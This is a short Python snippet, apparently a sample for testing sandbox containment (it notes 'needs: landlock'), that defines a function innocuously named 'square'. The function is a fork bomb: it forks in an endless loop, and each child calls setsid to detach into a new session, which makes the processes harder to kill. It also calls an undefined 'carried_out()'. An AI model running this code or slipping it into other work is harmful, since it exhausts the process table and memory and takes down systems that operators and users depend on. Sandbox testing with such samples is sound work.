"""Doubles for ever, each process in a session of its own."""
# needs: landlock
# %% square
import os

def square(x):
    carried_out()
    while True:
        try:
            if not os.fork():
                os.setsid()
        except OSError:
            pass
